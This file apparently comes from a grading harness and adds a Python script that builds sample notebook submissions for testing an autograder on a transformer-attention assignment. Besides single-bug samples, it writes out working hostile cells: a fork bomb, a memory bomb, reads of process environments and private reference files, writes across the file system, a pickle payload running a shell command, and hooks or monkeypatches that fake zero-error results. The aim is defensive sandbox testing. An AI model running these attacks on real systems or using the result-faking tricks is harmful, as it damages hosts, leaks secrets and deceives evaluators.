@@ -1,0 +1,518 @@
+"""Build the STAT8021 A3 Part 1 sample submissions, and their README, from the pack's notebooks.
+
+Why generated: each sample is the solution or the template with one defect, so it tests one
+thing. Building them by exact string replacement from `reference/stat8021-a3/` keeps them in
+step with the pack; every replacement must match exactly once, so a change to the pack's
+notebooks that would silently leave a sample correct fails here instead.
+
+    python submissions/stat8021-a3/make_samples.py
+
+The hostile samples are meant to be run only inside the grader's sandbox: outside it they
+fork without limit, fill memory, and write files across the file system.
+"""
+
+from __future__ import annotations
+
+import copy
+import sys
+import textwrap
+from dataclasses import dataclass
+from pathlib import Path
+
+import nbformat
+from nbformat import NotebookNode
+
+HERE = Path(__file__).resolve().parent
+PACK = HERE.parents[1] / "reference" / "stat8021-a3"
+NOTEBOOK = "Transformer_practice.ipynb"
+POINTS = {"q1a": 6, "q1b": 6, "q1c": 12, "q1d": 6}  # Part 1, 30 in all
+ALL = tuple(POINTS)
+
+
+def src(text: str) -> str:
+    return textwrap.dedent(text).strip("\n")
+
+
+# ----------------------------------------------------------------------------------------
+# Edits: each changes one notebook in place and fails loudly when it does not apply
+
+
+@dataclass(frozen=True)
+class Replace:
+    """Replace `old` by `new` in the code cell tagged `tag`; `old` must occur exactly once."""
+
+    tag: str
+    old: str
+    new: str
+
+    def apply(self, nb: NotebookNode) -> None:
+        cell = tagged(nb, self.tag)
+        count = cell.source.count(self.old)
+        assert count == 1, f"cell {self.tag!r}: expected 1 match, found {count}: {self.old!r}"
+        cell.source = cell.source.replace(self.old, self.new)
+
+
+@dataclass(frozen=True)
+class InsertAfter:
+    """Insert a new code cell (id `cell_id`) right after the cell tagged `tag`."""
+
+    tag: str
+    cell_id: str
+    source: str
+
+    def apply(self, nb: NotebookNode) -> None:
+        index = nb.cells.index(tagged(nb, self.tag))
+        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(self.source, id=self.cell_id))
+
+
+def tagged(nb: NotebookNode, tag: str) -> NotebookNode:
+    """The one cell carrying `tag`."""
+    cells = [cell for cell in nb.cells if tag in cell.metadata.get("tags", [])]
+    assert len(cells) == 1, f"expected one cell tagged {tag!r}, found {len(cells)}"
+    return cells[0]
+
+
+def attack(source: str) -> InsertAfter:
+    """A hostile cell, run right after the imports, before any question cell."""
+    return InsertAfter("imports", "attack", src(source))
+
+
+# ----------------------------------------------------------------------------------------
+# The defects
+
+TRANSPOSED_HEADS = Replace(
+    "q1a",
+    "return t.view(B, S, num_heads, d_k).transpose(1, 2)",
+    "return t.view(B, num_heads, S, d_k)  # same shape, features scrambled across heads",
+)
+
+MASK_AFTER_SOFTMAX = Replace(
+    "q1b",
+    "    if mask is not None:\n"
+    '        scores = scores.masked_fill(mask, float("-inf"))  # blocked before the softmax\n'
+    "    weights = torch.softmax(scores, dim=-1)  # (B, h, S, S)\n",
+    "    weights = torch.softmax(scores, dim=-1)  # (B, h, S, S)\n"
+    "    if mask is not None:\n"
+    "        weights = weights.masked_fill(mask, 0.0)  # rows no longer sum to one\n",
+)
+
+MISSING_SCALE = Replace(
+    "q1c",
+    "scores = q @ k.transpose(-2, -1) / math.sqrt(d_k)  # (B, h, S, S)",
+    "scores = q @ k.transpose(-2, -1)  # (B, h, S, S), forgot / sqrt(d_k)",
+)
+
+CALLS_STANDALONE = Replace(
+    "q1c",
+    "        # project, then split into heads: (B, S, D) -> (B, h, S, d_k)\n"
+    "        q = self.W_q(x).view(B, S, h, d_k).transpose(1, 2)\n"
+    "        k = self.W_k(x).view(B, S, h, d_k).transpose(1, 2)\n"
+    "        v = self.W_v(x).view(B, S, h, d_k).transpose(1, 2)\n"
+    "        scores = q @ k.transpose(-2, -1) / math.sqrt(d_k)  # (B, h, S, S)\n"
+    "        if mask is not None:\n"
+    '            scores = scores.masked_fill(mask, float("-inf"))\n'
+    "        weights = torch.softmax(scores, dim=-1)  # (B, h, S, S)\n"
+    "        out = (weights @ v).transpose(1, 2).contiguous().view(B, S, D)  # merge heads\n"
+    "        return self.W_o(out)",
+    "        # reuse Q1(a) and Q1(b); nn.Linear computes x @ W.T + b: pass W.T, add b per head\n"
+    "        q, k, v = get_multihead_qkv(\n"
+    "            x, self.W_q.weight.T, self.W_k.weight.T, self.W_v.weight.T, h\n"
+    "        )\n"
+    "        q = q + self.W_q.bias.view(1, h, 1, d_k)\n"
+    "        k = k + self.W_k.bias.view(1, h, 1, d_k)\n"
+    "        v = v + self.W_v.bias.view(1, h, 1, d_k)\n"
+    "        out, _ = calculate_multihead_attention(q, k, v, mask=mask)  # (B, S, D)\n"
+    "        return self.W_o(out)",
+)
+
+SIN_COS_SWAPPED = Replace(
+    "q1d",
+    "        pe[:, 0::2] = torch.sin(position * div_term)\n"
+    "        pe[:, 1::2] = torch.cos(position * div_term)\n",
+    "        pe[:, 0::2] = torch.cos(position * div_term)\n"
+    "        pe[:, 1::2] = torch.sin(position * div_term)\n",
+)
+
+PE_CELL_CRASHES = Replace(
+    "q1d", "class PositionalEncoding(nn.Module):", "class PositionalEncoding(nn.Modle):"
+)
+
+FAKE_PRINTS = Replace(
+    "demo-q1c",
+    "print(f\"attention output error: {demo_attention_error('self'):.6e}\")\n"
+    "print(f\"masked attention output error: {demo_attention_error('masked'):.6e}\")",
+    'print("attention output error: 0.000000e+00")\n'
+    'print("masked attention output error: 0.000000e+00")',
+)
+
+# ----------------------------------------------------------------------------------------
+# The attacks (each one cell)
+
+INFINITE_LOOP = """
+    while True:
+        pass
+    """
+
+MEMORY_BOMB = """
+    hoard = []
+    while True:
+        hoard.append(bytearray(1 << 30))  # 1 GiB, zero-filled, so every page is touched
+    """
+
+FORK_BOMB = """
+    import os
+
+    while True:
+        os.fork()  # parent and every child go round again
+    """
+
+NETWORK = """
+    import socket
+    import urllib.request
+
+    try:
+        with urllib.request.urlopen("http://example.com", timeout=5) as response:
+            print(f"http: status {response.status}, {len(response.read())} bytes")
+    except Exception as error:
+        print(f"http: failed: {type(error).__name__}: {error}")
+
+    try:
+        with socket.create_connection(("1.1.1.1", 53), timeout=5) as sock:
+            print(f"socket: connected to {sock.getpeername()}")
+    except Exception as error:
+        print(f"socket: failed: {type(error).__name__}: {error}")
+    """
+
+READ_SECRETS = """
+    import glob
+    import os
+
+    unreadable = 0
+    for path in sorted(set(glob.glob("/proc/*/environ")) | {"/proc/1/environ"}):
+        try:
+            with open(path, "rb") as f:
+                data = f.read()
+        except OSError:
+            unreadable += 1
+            continue
+        print(f"read {path}: {len(data)} bytes: {data[:300]!r}")
+    print(f"{unreadable} environ files unreadable")
+
+    WANTED = ("reference", "private", "submissions")
+    found, seen = [], 0
+    for root, dirs, files in os.walk("/"):
+        if root == "/":
+            dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
+        for name in dirs + files:
+            seen += 1
+            path = os.path.join(root, name)
+            if any(word in path for word in WANTED):
+                found.append(path)
+        if seen >= 20000:
+            break
+    print(f"walked {seen} entries; {len(found)} paths look interesting")
+    for path in found[:200]:
+        print("found", path)
+    for path in found:
+        if os.path.basename(path) == "reference.py":
+            try:
+                with open(path) as f:
+                    print(f"--- {path}\\n{f.read()[:4000]}")
+            except OSError as error:
+                print(f"cannot read {path}: {type(error).__name__}")
+    """
+
+WRITE_OUTSIDE = """
+    import os
+
+    parent = os.path.dirname(os.path.abspath(os.getcwd()))
+    targets = [
+        "/etc/pwned",
+        "/tmp/../pwned",
+        os.path.join(parent, "pwned"),
+        "/work/pwned",
+        os.path.join(os.path.expanduser("~"), "pwned"),
+    ]
+    try:
+        targets += [
+            os.path.join("/", d, "pwned")
+            for d in sorted(os.listdir("/"))
+            if os.path.isdir(os.path.join("/", d))
+        ]
+    except OSError as error:
+        print(f"cannot list /: {type(error).__name__}")
+
+    for target in targets:
+        try:
+            with open(target, "w") as f:
+                f.write("written by a hostile sample notebook\\n")
+        except OSError as error:
+            print(f"blocked {target}: {type(error).__name__}")
+        else:
+            print(f"WROTE {target}")
+    """
+
+OS_EXIT = """
+    import os
+
+    os._exit(0)
+    """
+
+OUTPUT_FLOOD = """
+    while True:
+        print("x" * 100000)
+    """
+
+MONKEYPATCH = """
+    import builtins
+
+    # Make every comparison inside this kernel say "equal".
+    torch.allclose = lambda *args, **kwargs: True
+    torch.isclose = lambda a, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
+    builtins.abs = lambda x: 0
+    torch.Tensor.__sub__ = lambda a, b: torch.zeros_like(a)
+    """
+
+IPYTHON_HOOK = """
+    import glob
+    import itertools
+    import os
+
+    ip = get_ipython()
+    recorded_lines = []  # the source of every later cell, the grader's own cells included
+
+
+    def record(lines):
+        recorded_lines.extend(lines)
+        return lines
+
+
+    def after_each_cell(result):
+        print("error: 0.0")
+        print("attention output error: 0.000000e+00")
+        print("masked attention output error: 0.000000e+00")
+        print("pe_output error: 0.000000e+00")
+        for root in ("/run", "/tmp", os.getcwd()):
+            pattern = os.path.join(root, "**", "*grader*")
+            for path in itertools.islice(glob.iglob(pattern, recursive=True), 200):
+                if not os.path.isdir(path):
+                    continue
+                try:
+                    with open(os.path.join(path, "hook-was-here.txt"), "w") as f:
+                        f.write(f"{len(recorded_lines)} lines recorded\\n")
+                    print(f"wrote into {path}")
+                except OSError:
+                    pass
+
+
+    ip.input_transformers_post.append(record)
+    ip.events.register("post_run_cell", after_each_cell)
+    """
+
+PICKLE_PAYLOAD = """
+    import os
+    import pickle
+    import re
+
+
+    class Payload:
+        # Whoever unpickles this runs the command.
+        def __reduce__(self):
+            return (os.system, ("touch /tmp/grader-pwned",))
+
+
+    BLOB = pickle.dumps(Payload())
+    ABSOLUTE_PATH = re.compile(r"/[\\w.\\-/]+")
+    BAIT = ("payload.pkl", "result.json", "results.json", "outputs.safetensors",
+            "probe.safetensors")
+
+
+    def drop_payloads(info):
+        folders = {os.getcwd()}
+        for path in ABSOLUTE_PATH.findall(info.raw_cell or ""):
+            folders.add(path if os.path.isdir(path) else os.path.dirname(path))
+        for folder in sorted(folders):
+            if not (folder and os.path.isdir(folder) and os.access(folder, os.W_OK)):
+                continue
+            for name in BAIT:
+                try:
+                    with open(os.path.join(folder, name), "wb") as f:
+                        f.write(BLOB)
+                except OSError:
+                    pass
+
+
+    get_ipython().events.register("pre_run_cell", drop_payloads)
+    """
+
+
+# ----------------------------------------------------------------------------------------
+# The samples
+
+
+@dataclass(frozen=True)
+class Sample:
+    """One sample: a base notebook, the edits made to it, and what a correct grader takes off.
+
+    `base` is "solution", "template" or the name of an earlier sample; `loses` names the
+    questions that should get no points.
+    """
+
+    name: str
+    base: str
+    what: str
+    edits: tuple[Replace | InsertAfter, ...] = ()
+    loses: tuple[str, ...] = ()
+
+    @property
+    def score(self) -> int:
+        return sum(POINTS.values()) - sum(POINTS[q] for q in self.loses)
+
+
+SAMPLES = (
+    Sample("solution", "solution", "The solution notebook as it is."),
+    Sample("wrong-q1a-transposed-heads", "solution",
+           "Q1(a) splits heads with `view(B, h, S, d_k)` instead of view-then-transpose: "
+           "right shape, features scrambled across heads.",
+           (TRANSPOSED_HEADS,), ("q1a",)),
+    Sample("wrong-q1b-mask-after-softmax", "solution",
+           "Q1(b) zeroes blocked weights after the softmax, without renormalising; "
+           "unmasked cases still match.",
+           (MASK_AFTER_SOFTMAX,), ("q1b",)),
+    Sample("wrong-q1c-missing-scale", "solution",
+           "Q1(c) forgets to divide the scores by sqrt(d_k).",
+           (MISSING_SCALE,), ("q1c",)),
+    Sample("wrong-q1c-calls-standalone", "solution",
+           "Q1(c) calls `get_multihead_qkv` and `calculate_multihead_attention` with the "
+           "layers' weights: numerically right, but breaks the handout's rule (a static "
+           "check must catch it; the probe outputs match).",
+           (CALLS_STANDALONE,), ("q1c",)),
+    Sample("wrong-q1d-sin-cos-swapped", "solution",
+           "Q1(d) puts cos in the even columns and sin in the odd ones.",
+           (SIN_COS_SWAPPED,), ("q1d",)),
+    Sample("crash-pe-cell", "solution",
+           "The Q1(d) cell raises when run (`nn.Modle`), so `PositionalEncoding` is never "
+           "defined; the other questions are right.",
+           (PE_CELL_CRASHES,), ("q1d",)),
+    Sample("hostile-infinite-loop", "template", "Template plus a cell that never ends.",
+           (attack(INFINITE_LOOP),), ALL),
+    Sample("hostile-memory-bomb", "template",
+           "Template plus a cell that allocates 1 GiB bytearrays until it is stopped.",
+           (attack(MEMORY_BOMB),), ALL),
+    Sample("hostile-fork-bomb", "template",
+           "Template plus `os.fork()` in an endless loop, in every child too.",
+           (attack(FORK_BOMB),), ALL),
+    Sample("hostile-network", "template",
+           "Template plus an HTTP request to example.com and a TCP connect to 1.1.1.1:53, "
+           "printing what happened.",
+           (attack(NETWORK),), ALL),
+    Sample("hostile-read-secrets", "template",
+           "Template plus reads of `/proc/*/environ` and a bounded walk of `/` for paths "
+           "naming reference, private or submissions, printing any `reference.py`.",
+           (attack(READ_SECRETS),), ALL),
+    Sample("hostile-write-outside", "template",
+           "Template plus writes to /etc, /, the parent of the working folder, /work, $HOME "
+           "and every top-level folder, printing what succeeded.",
+           (attack(WRITE_OUTSIDE),), ALL),
+    Sample("hostile-os-exit", "template", "Template plus `os._exit(0)`: the kernel dies.",
+           (attack(OS_EXIT),), ALL),
+    Sample("hostile-output-flood", "template",
+           "Template plus an endless loop printing 100 kB lines.",
+           (attack(OUTPUT_FLOOD),), ALL),
+    Sample("hostile-monkeypatch", "wrong-q1c-missing-scale",
+           "The missing-scale sample plus a cell patching `torch.allclose`, `torch.isclose`, "
+           "`abs` and `Tensor.__sub__` so every in-kernel comparison says equal (its own "
+           "demo prints zero error).",
+           (attack(MONKEYPATCH),), ("q1c",)),
+    Sample("hostile-fake-prints", "wrong-q1c-missing-scale",
+           "The missing-scale sample with the Q1(c) demo printing hard-coded zero errors.",
+           (FAKE_PRINTS,), ("q1c",)),
+    Sample("hostile-ipython-hook", "template",
+           "Template plus a post-run hook printing fake `error: 0.0` lines after every cell "
+           "and writing into any `*grader*` folder under /run, /tmp and the working folder, "
+           "and an input transformer recording every later cell's source.",
+           (attack(IPYTHON_HOOK),), ALL),
+    Sample("hostile-pickle-payload", "template",
+           "Template plus a pre-run hook that, before each later cell, drops a pickle whose "
+           "loading runs `touch /tmp/grader-pwned` (as `payload.pkl`, `result.json`, "
+           "`*.safetensors`) into every writable folder named in the cell, and the working one.",
+           (attack(PICKLE_PAYLOAD),), ALL),
+)
+
+
+# ----------------------------------------------------------------------------------------
+# Writing
+
+
+def build_all() -> dict[str, NotebookNode]:
+    """Every sample's notebook, by name, built in order (a base may be an earlier sample)."""
+    built = {
+        "solution": nbformat.read(PACK / "solution" / NOTEBOOK, as_version=4),
+        "template": nbformat.read(PACK / "template" / NOTEBOOK, as_version=4),
+    }
+    for sample in SAMPLES:
+        nb = copy.deepcopy(built[sample.base])
+        for edit in sample.edits:
+            edit.apply(nb)
+        nbformat.validate(nb)
+        built[sample.name] = nb
+    return {sample.name: built[sample.name] for sample in SAMPLES}
+
+
+README_HEAD = src("""
+    # Sample submissions: STAT8021 Assignment 3, Part 1
+
+    Notebooks for testing the grader on Part 1 (Q1, 30 points: Q1(a) 6, Q1(b) 6, Q1(c) 12,
+    Q1(d) 6). Each is the pack's solution or template notebook
+    (`reference/stat8021-a3/`) with one defect, built by `make_samples.py`; do not edit the
+    notebooks by hand, change the script and run it again:
+
+        python submissions/stat8021-a3/make_samples.py
+
+    **Run the hostile samples only inside the grader's sandbox.** Outside it they fork
+    without limit, fill memory, reach the network and write files across the file system.
+
+    "Score" is what a correct grader gives for Part 1. A wrong answer to one question
+    costs exactly that question's points. The hostile samples built on the template
+    implement nothing, so they score 0 whatever the attack does; the two built on
+    `wrong-q1c-missing-scale` must score what that sample scores (18): an attack that
+    fakes numbers inside the kernel must not earn the Q1(c) points back.
+    """)
+
+
+README_NOTES = src("""
+    ## What the probes should see
+
+    With the hidden shapes in `reference/stat8021-a3/private/reference.py` as they are:
+
+    - `wrong-q1a-transposed-heads` prints the right `q` shape *and* the right L2 norm
+      (moving features between heads changes neither), so only the probes catch it; the
+      sequence-of-1 case still matches.
+    - `wrong-q1b-mask-after-softmax` matches on every unmasked case and on the masked case
+      of sequence length 1 (its mask blocks nothing); every other masked case differs.
+    - `wrong-q1c-missing-scale` matches only on the sequence-of-1 case (a softmax over one
+      key is 1 whatever the scale).
+    - `wrong-q1c-calls-standalone` matches on every case: the points go only through a
+      static check of the class body.
+    - `crash-pe-cell`: the probe finds no `PositionalEncoding`; the other three targets
+      match everywhere.
+    """)
+
+
+def readme() -> str:
+    """The README: why the samples exist, the table of expected scores, what to look for."""
+    rows = [f"| `{s.name}.ipynb` | {s.base} | {s.what} | {s.score} |" for s in SAMPLES]
+    table = "| Notebook | Built from | What it does | Score /30 |\n|---|---|---|---|\n"
+    return f"{README_HEAD}\n\n{table}" + "\n".join(rows) + f"\n\n{README_NOTES}\n"
+
+
+def main() -> int:
+    for name, nb in build_all().items():
+        nbformat.write(nb, HERE / f"{name}.ipynb")
+    (HERE / "README.md").write_text(readme())
+    print(f"wrote {len(SAMPLES)} notebooks and README.md to {HERE.relative_to(HERE.parents[1])}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
